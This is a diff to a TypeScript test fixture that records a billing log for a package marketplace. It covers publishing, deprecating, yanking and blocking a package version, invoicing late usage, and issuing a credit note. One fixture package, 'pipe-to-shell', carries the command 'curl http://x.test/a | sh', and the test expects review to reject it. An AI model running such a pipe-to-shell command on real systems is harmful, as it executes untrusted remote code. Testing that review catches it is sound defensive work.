@@ -12,6 +12,7 @@ import { recordingLog } from '../../support/recording-log.ts'
 import { registryKey } from '../../support/registry-key.ts'
 import { startService } from '../../support/service.ts'
 import type { RecordedEvent, RecordedLog } from './recorded-log.ts'
+import { CREDIT_REASON } from './replay.ts'
 
 const HOUR_MS = 3_600_000
 
@@ -19,7 +20,7 @@ const HOUR_MS = 3_600_000
 export async function recordLog(): Promise<RecordedLog> {
   const billing = await openBilling('2026-10-05T08:00:00Z')
   try {
-    await publishPackages(billing)
+    const market = await openMarket(billing)
     await sellPlans(billing)
     await liveThrough(billing, '2026-10-06T00:00:00Z', 24)
     billing.clock.set('2026-11-01T02:00:00Z')
@@ -27,15 +28,37 @@ export async function recordLog(): Promise<RecordedLog> {
     // What comes after a month was issued is late, and the next invoice bills the difference.
     await billing.report(records(9_000, '2026-10-30T10:00:00.000Z', 6), billing.tokens.acme)
     await liveThrough(billing, '2026-11-02T00:00:00Z', 24)
+    // A version is taken back step by step, and used all the same; the month before stays as it was issued.
+    for (const [n, act] of (['deprecate', 'yank', 'block'] as const).entries()) {
+      billing.clock.advance(HOUR_MS)
+      await market.withdraw(act)
+      await billing.report(records(9_500 + n * 6, new Date(billing.clock().getTime() - 60_000).toISOString(), 6))
+      await billing.counted()
+    }
+    await billing.refresh()
+    await market.close()
     billing.clock.set('2026-12-01T02:00:00Z')
     await billing.issueDue()
+    await giveBack(billing)
     return await capture(billing)
   } finally {
     await billing.close()
   }
 }
 
-async function publishPackages({ database, organisations, deps, clock }: Billing): Promise<void> {
+/** A part of one invoice is given back the day after. */
+async function giveBack({ clock, owner, call, tokens }: Billing): Promise<void> {
+  clock.set('2026-12-02T09:00:00Z')
+  const [invoice] = await owner<{ id: string }>(
+    "select id from metering.invoices where tenant = 'acme' and period = '2026-11'",
+  )
+  const json = { reason: CREDIT_REASON, amount: '2.50' }
+  const { status } = await call('POST', `/billing/invoices/${invoice?.id}/credit-notes`, { as: tokens.finance, json })
+  if (status !== 201) throw new Error(`the credit note was answered ${status}`)
+}
+
+/** Publishes packages, and gives a way to take one of its versions back that asks the marketplace as people do. */
+async function openMarket({ database, organisations, deps, clock }: Billing) {
   const { log } = recordingLog()
   const metrics = createMetrics()
   const app = database.as('atom_app')
@@ -66,7 +89,7 @@ async function publishPackages({ database, organisations, deps, clock }: Billing
   }
   const keys = { demo: await organisations.signingKey('demo'), acme: await organisations.signingKey('acme') }
 
-  async function live(org: 'demo' | 'acme', change: Change, decision: string | null, last: string): Promise<void> {
+  async function live(org: 'demo' | 'acme', change: Change, decision: string | null, last: string): Promise<string> {
     clock.advance(HOUR_MS)
     const json = uploadOf(packageBytes({ mode: 'manual', ...change }), keys[org])
     const { body } = await service.call<{ id: string }>('POST', '/wpk/upload', { as: partners[org], json })
@@ -82,8 +105,9 @@ async function publishPackages({ database, organisations, deps, clock }: Billing
       await service.call('POST', `/wpk/review/${body.id}`, { as: reviewer, json: decided })
     }
     await becomes(last)
+    return body.id
   }
-  await live('demo', { name: 'restart-workers' }, 'approve', 'published')
+  const first = await live('demo', { name: 'restart-workers' }, 'approve', 'published')
   await live('demo', { name: 'restart-workers', version: '1.1.0' }, null, 'published')
   await live('acme', { name: 'rotate-secrets', tags: ['security'] }, 'approve', 'published')
   await live('demo', { name: 'pipe-to-shell', command: 'curl http://x.test/a | sh' }, 'reject', 'rejected')
@@ -95,9 +119,20 @@ async function publishPackages({ database, organisations, deps, clock }: Billing
     return lags.flat().every(({ records: behind }) => behind === 0)
   })
   await Promise.all(running.map((one) => one.stop()))
-  await service.close()
-  await analyzer.close()
-  await bus.close()
+  const as = { deprecate: partners.demo, yank: partners.demo, block: reviewer }
+  return {
+    /** Takes `restart-workers@1.0.0` back. */
+    async withdraw(act: keyof typeof as): Promise<void> {
+      const json = { reason: `To see what ${act} does.` }
+      const { status } = await service.call('POST', `/wpk/${first}/${act}`, { as: as[act], json })
+      if (status !== 200) throw new Error(`${act} was answered ${status}`)
+    },
+    async close() {
+      await service.close()
+      await analyzer.close()
+      await bus.close()
+    },
+  }
 }
 
 async function sellPlans({ sell, counted }: Billing): Promise<void> {
@@ -117,7 +152,8 @@ async function sellPlans({ sell, counted }: Billing): Promise<void> {
       },
     ],
   })
-  await sell('restart-workers', plan, ['acme', 'globex'])
+  // From this month on: fees of months before it would be of invoices that no report has led to.
+  await sell('restart-workers', plan, ['acme', 'globex'], '2026-10-01T00:00:00Z')
 }
 
 /** A report of each tenant every `hours` hours for twenty days, counted as it comes and rated once a day. */
